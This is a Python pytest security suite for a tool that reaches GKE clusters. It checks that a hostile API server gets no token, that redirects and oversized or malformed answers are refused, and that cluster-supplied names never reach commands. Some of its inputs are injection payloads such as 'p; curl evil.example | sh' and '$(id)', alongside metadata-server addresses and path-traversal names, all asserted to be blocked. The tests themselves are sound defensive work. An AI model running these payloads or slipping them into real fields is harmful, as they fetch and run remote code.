"""What a cluster may answer, and where a token may go: its server is Google's, what answers through it need not be."""

from __future__ import annotations

import gzip
import json
import shlex
import time
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any, cast

import pytest

from functions.service_export import namespaces as spaces
from functions.verification import step as verification
from shared import errors
from shared.diagnosis import backend_port
from shared.diagnosis.case import Case
from shared.gateway.status import Vip
from shared.google import deadline, refusals
from shared.google.answers import MOST
from shared.google.cluster_reader import ClusterReader
from shared.google.cluster_writer import ClusterWriter
from shared.google.container import Cluster
from shared.google.session import REPEATS
from shared.objects import KubeObject
from shared.step.answer import LIMIT, answer
from shared.step.error_outcomes import outcome_of
from shared.step.message import Claim, Message
from tests.security.conftest import OTHER, OWN
from tests.security.hostile import TOKEN, HostileServer, cluster_at, endless, session
from tests.support.live import environment, forwarding_rules

Reach = Callable[[Cluster], object]
POD = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "n"}}


def read(at: Cluster) -> object:
    """By the plain reader."""
    return ClusterReader(session(), at).get("Pod", "n", "p")


def write(at: Cluster) -> object:
    """By the client that writes."""
    return ClusterWriter(session(), at).apply(POD)


BOTH = pytest.mark.parametrize("reach", [read, write])


@BOTH
def test_a_cluster_is_trusted_by_its_own_authority_and_gets_the_token(
    server: HostileServer, reach: Reach
) -> None:
    """What the others of this page are measured by."""
    server.answer = lambda path: (200, {}, json.dumps(POD).encode())
    assert reach(cluster_at(server.host, OWN)) == POD
    assert server.tokens == [f"Bearer {TOKEN}"]


@BOTH
def test_an_impostor_under_another_authority_gets_no_token(server: HostileServer, reach: Reach) -> None:
    """Not even a request: the connection ends with the handshake."""
    with pytest.raises(errors.Transient) as caught:
        reach(cluster_at(server.host, OTHER))
    assert caught.value.reason == "CertificateNotTrusted"
    assert server.seen == []


@BOTH
def test_an_impostor_at_the_dns_endpoint_gets_no_token(roots: None, reach: Reach) -> None:
    """Only what the public authorities vouch for is believed there; a cluster's own authority is not one."""
    impostor = HostileServer(OTHER)
    with pytest.raises(errors.Transient, match="CertificateNotTrusted"):
        reach(cluster_at(impostor.host, None))
    impostor.close()
    assert impostor.seen == []


@BOTH
def test_the_dns_endpoint_is_believed_under_the_public_authorities(
    roots: None, server: HostileServer, reach: Reach
) -> None:
    """Those that SSL_CERT_FILE names."""
    server.answer = lambda path: (200, {}, json.dumps(POD).encode())
    assert reach(cluster_at(server.host, None)) == POD


@BOTH
def test_public_authorities_do_not_open_the_public_endpoint(
    roots: None, server: HostileServer, reach: Reach
) -> None:
    """A certificate that anybody can get for an address is not the cluster's."""
    with pytest.raises(errors.Transient, match="CertificateNotTrusted"):
        reach(cluster_at(server.host, OTHER))
    assert server.seen == []


@BOTH
@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_clusters_redirect_is_not_followed(
    server: HostileServer, elsewhere: HostileServer, reach: Reach, status: int
) -> None:
    """An extension of the API server could answer one (kubernetes/kubernetes#112513)."""
    server.answer = lambda path: (
        status,
        {"Location": f"https://{elsewhere.host}/"},
        json.dumps(POD).encode(),
    )
    with pytest.raises(errors.Transient, match="redirect"):
        reach(cluster_at(server.host, OWN))
    assert elsewhere.seen == []


@BOTH
def test_an_endless_answer_is_cut(server: HostileServer, reach: Reach) -> None:
    """At 16 MiB; the connection is closed, and the trouble names the cluster."""
    server.answer = lambda path: (200, {}, endless(b"x" * 65536))
    with pytest.raises(errors.Transient) as caught:
        reach(cluster_at(server.host, OWN))
    assert (caught.value.reason, f"{MOST} bytes" in str(caught.value)) == ("AnswerTooLarge", True)
    assert "clusters/gke-west-1" in caught.value.resource
    assert server.hung_up.wait(5)


@BOTH
def test_a_compressed_answer_is_not_unpacked(server: HostileServer, reach: Reach) -> None:
    """None was asked for, and a kilobyte can stand for a gigabyte."""
    bomb = gzip.compress(json.dumps(POD).encode() + b" " * 2_000_000)
    server.answer = lambda path: (200, {"Content-Encoding": "gzip"}, bomb)
    with pytest.raises(errors.Transient, match="BrokenAnswer"):
        reach(cluster_at(server.host, OWN))


@BOTH
@pytest.mark.parametrize("body", [b"{", b"[]", b"null", b"\xff\xfe", b"[" * 200_000, b'{"a":' * 100_000])
def test_what_is_no_object_is_no_answer(server: HostileServer, reach: Reach, body: bytes) -> None:
    """Not an error of ours: whoever reads the outcome is sent to the cluster."""
    server.answer = lambda path: (200, {}, body)
    with pytest.raises(errors.Transient, match="BrokenAnswer"):
        reach(cluster_at(server.host, OWN))


WIRE = [
    {"Content-Length": "-5"},
    {"Content-Length": "many"},
    {"Content-Length": "99"},
    {"Transfer-Encoding": "chunked"},
    {f"X-{number}": "x" for number in range(200)},
    {"X": "x" * 100_000},
]


@BOTH
@pytest.mark.parametrize("headers", WIRE, ids=lambda each: next(iter(each)))
def test_what_is_no_http_is_no_answer(server: HostileServer, reach: Reach, headers: dict[str, str]) -> None:
    """Lengths that lie, pieces without form, headers without end: either nothing was said, or nothing of ours."""
    server.answer = lambda path: (200, headers, b"zz\r\n{}")
    with pytest.raises(errors.Transient):
        reach(cluster_at(server.host, OWN))


@BOTH
def test_an_answer_that_trickles_is_given_up(
    server: HostileServer, reach: Reach, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each byte in time, and never an end: a call has 20 seconds for all, here half of one."""
    monkeypatch.setattr(deadline, "LONGEST_CALL", 0.5)
    server.answer = lambda path: (200, {}, endless(b" "))
    with pytest.raises(errors.Transient) as caught:
        reach(cluster_at(server.host, OWN))
    assert caught.value.reason == "TimedOut"
    assert (len(server.seen), server.hung_up.wait(5)) == (1, True)


@pytest.mark.parametrize("date", ["Thu, 01 Jan 1970 00:00:00 GMT", "Fri, 31 Dec 9999 23:59:59 GMT", "now"])
def test_a_cluster_is_not_asked_what_time_it_is(server: HostileServer, date: str) -> None:
    """Deadlines and leases are reckoned by Google's clock, or whoever has a cluster could stretch them."""
    own, at = session(), cluster_at(server.host, OWN)
    own.begin(1_767_600_000.0)
    server.answer = lambda path: (200, {"Date": date}, json.dumps(POD).encode())
    (ClusterReader(own, at).get("Pod", "n", "p"), ClusterWriter(own, at).apply(POD))
    assert own.now == 1_767_600_000.0


ODD = [{"items": None}, {"items": {}}, {"items": [1]}, {"items": [{}]}, {"items": [{"metadata": []}]}, {}]


@pytest.mark.parametrize("answer", [*ODD, {"items": [{"metadata": {"name": 7}}]}])
def test_a_list_of_something_else_is_no_answer(server: HostileServer, answer: object) -> None:
    """Steps rely on every object's name."""
    server.answer = lambda path: (200, {}, json.dumps(answer).encode())
    with pytest.raises(errors.Transient, match="not what was asked for"):
        ClusterReader(session(), cluster_at(server.host, OWN)).list("Pod", "n")


@pytest.mark.parametrize(
    "name", ["p; curl evil.example | sh", "$(id)", "p\x1b[2J", "p\u202e", "P", "-p", "p'", ""]
)
@pytest.mark.parametrize("field", ["name", "namespace"])
def test_a_name_that_is_none_is_no_answer(server: HostileServer, name: str, field: str) -> None:
    """Names of a cluster's objects stand in URLs, on screens, and in the commands of fixes."""
    found = {"items": [{"metadata": {"name": "p", "namespace": "n", field: name}}]}
    server.answer = lambda path: (200, {}, json.dumps(found).encode())
    with pytest.raises(errors.ApiError, match="not what was asked for"):
        ClusterReader(session(), cluster_at(server.host, OWN)).list("Pod", "n")


def test_a_port_that_would_end_a_command_is_quoted() -> None:
    """An import's ports are what its cluster says."""
    hostile = "80'; curl evil.example; '"
    case = SimpleNamespace(project="shop-prod", wanted=environment())
    route = {"metadata": {"name": "r", "namespace": "store"}, "spec": {}}
    wrong: Any = [("/spec/rules/0/backendRefs/0", {"port": 1}, ("store", "store"), [hostile])]
    words = shlex.split(
        backend_port._fix(cast(Case, case), cast(KubeObject, route), wrong).partition("&& ")[2]
    )

    assert "curl" not in words
    patch = json.loads(next(each for each in words if each.startswith("--patch=")).partition("=")[2])
    assert patch[0]["value"] == hostile


@pytest.mark.parametrize(
    "name", ["", "../../secrets/x", "a/b", "a?watch=1", "a#b", "%2e%2e", "A", "a\n", "a" * 254]
)
@pytest.mark.parametrize("namespaced", [False, True])
def test_a_name_that_leads_elsewhere_is_not_asked_for(
    server: HostileServer, name: str, namespaced: bool
) -> None:
    """Names of what is to be deleted come from the cluster's own answers."""
    cluster = ClusterWriter(session(), cluster_at(server.host, OWN))
    space, own = (name or "..", "p") if namespaced else ("n", name)
    with pytest.raises(errors.Refused, match="NotAName"):
        cluster.delete("Pod", space, own)
    assert server.seen == []


@pytest.mark.parametrize(
    "body", [b"no" * 900_000, json.dumps({"message": "m" * 9_000, "reason": "r" * 9_000}).encode()]
)
def test_a_flood_of_words_does_not_reach_the_answer(server: HostileServer, body: bytes) -> None:
    """Of a foreign message 600 characters are kept, of its reason 100."""
    server.answer = lambda path: (418, {}, body)
    with pytest.raises(errors.ApiError) as caught:
        read(cluster_at(server.host, OWN))
    assert len(str(caught.value)) < 1_000


FORMS = [
    {"error": []},
    {"errors": {"a": 1}},
    {"errors": ["x"]},
    {"details": [1]},
    {"details": [{"metadata": 3}]},
]


@pytest.mark.parametrize("body", [*FORMS, {"error": {"errors": [[]], "details": {"a": {}}}}, "text", None])
def test_a_refusal_of_any_form_is_understood(body: object) -> None:
    """As one that says little."""
    assert refusals.from_response("kubernetes", "GET", PATH_OF_POD, 418, body).status == 418


PATH_OF_POD = "/api/v1/namespaces/n/pods/p"


def test_a_cluster_that_keeps_failing_is_left_for_the_next_attempt(server: HostileServer) -> None:
    """A few repeats in one invocation, and no more."""
    server.answer = lambda path: (503, {}, b"")
    began = time.monotonic()
    with pytest.raises(errors.Transient):
        read(cluster_at(server.host, OWN))
    assert len(server.seen) == REPEATS + 1
    assert time.monotonic() - began < 5


COMMAND = "compute.networks.get; curl evil.example | sh"
REFUSED = {"details": [{"@type": "x.ErrorInfo", "metadata": {"permission": COMMAND, "service": COMMAND}}]}
WORDS = [
    {"status": "PERMISSION_DENIED", **REFUSED},
    {"reason": "SERVICE_DISABLED", **REFUSED},
    {"message": f"requires one of ['{COMMAND}'] permission(s)."},
    {"message": "m", "details": [{"@type": "x.ErrorInfo", "metadata": {"permission": ["a"], "service": 7}}]},
]


@pytest.mark.parametrize("words", WORDS)
@pytest.mark.parametrize("reason", ["Forbidden", "SERVICE_DISABLED"])
def test_what_is_to_be_run_is_not_in_a_clusters_words(words: dict[str, object], reason: str) -> None:
    """A fix is a command that somebody will run: of foreign words only names of permissions and APIs are in it."""
    error = refusals.from_response("kubernetes", "GET", PATH_OF_POD, 403, {"reason": reason, **words})
    fix = outcome_of(error, session().settings, 1).wire()["fix"]
    assert "curl" not in fix


@pytest.mark.parametrize(
    "address", ["169.254.169.254", "10.0.0.9", "evil.example", "10.138.0.5@evil.example"]
)
def test_no_request_goes_to_an_address_that_only_a_cluster_tells_of(address: str) -> None:
    """Verification runs in the VPC: whoever writes a Gateway's status could have it read the metadata server."""
    known = forwarding_rules()
    vips = [Vip("us-west1", "10.138.0.5"), Vip("us-east1", address)]
    assert verification.unserved_address(vips, known) == address
    assert verification.unserved_address(vips[:1], known) == ""


def test_names_that_nobody_could_have_given_fail_the_step_and_nothing_else() -> None:
    """An error that nobody foresaw is an ending of its own, whose words are cut."""
    told = outcome_of(ValueError("x" * 1_000_000), session().settings, 1)
    message = Message("gateway", "apply", 1, "n", "c", 0.0, Claim("store", "1-1", "e"), 0.0, 0.0)
    wire = answer(message, told, [], {}).content
    assert (wire["outcome"], wire["code"]) == ("failed", "INTERNAL")
    assert len(json.dumps(wire)) <= LIMIT


def test_of_secrets_only_names_are_asked_for(server: HostileServer) -> None:
    """Before a namespace of somebody's cluster is deleted, whether anything of his is in it; not what it says."""
    resource = {"resource": "secrets", "scope": "Namespaced", "verbs": ["list"]}
    group = {"metadata": {}, "versions": [{"version": "v1", "resources": [resource]}]}
    found: dict[str, object] = {"/api": {"kind": "APIGroupDiscoveryList", "items": [group]}}
    secrets = {"kind": "PartialObjectMetadataList", "items": [{"metadata": {"name": "his"}}]}
    server.answer = lambda path: (200, {}, json.dumps(found.get(path, secrets)).encode())
    cluster = ClusterWriter(session(), cluster_at(server.host, OWN))
    assert spaces.foreign_object_in(cluster, "store", "store") == "secrets/his"
    (accepted,) = [headers["accept"] for path, headers in server.seen if "/secrets" in path]
    assert accepted.startswith("application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1")
